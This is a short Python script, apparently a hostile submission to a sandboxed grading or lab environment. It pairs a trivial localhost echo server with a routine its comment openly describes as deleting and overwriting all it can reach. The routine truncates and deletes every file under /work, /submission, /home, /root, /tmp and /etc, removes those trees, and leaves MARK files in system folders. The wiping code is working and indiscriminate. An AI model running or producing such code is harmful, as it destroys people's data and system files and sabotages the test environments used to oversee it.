# Deletes and overwrites all that it can reach, and serves.
import os, shutil, socket, sys

for top in ("/work", "/submission", "/home", "/root", "/tmp", os.path.expanduser("~"), os.environ.get("LAB_TMP", "/tmp"), "/etc"):
    for folder, _, files in os.walk(top):
        for name in files:
            for change in (lambda path: open(path, "w").close(), os.remove):
                try:
                    change(os.path.join(folder, name))
                except OSError:
                    pass
    shutil.rmtree(top, ignore_errors=True)
for folder in ("/", "/tmp", "/var/tmp", "/usr", "/dev/shm"):
    try:
        open(os.path.join(folder, "MARK"), "w").close()
    except OSError:
        pass

server = socket.create_server(("127.0.0.1", int(sys.argv[1])))
while True:
    connection, _ = server.accept()
    while data := connection.recv(1000):
        connection.sendall(data.upper())
    connection.close()
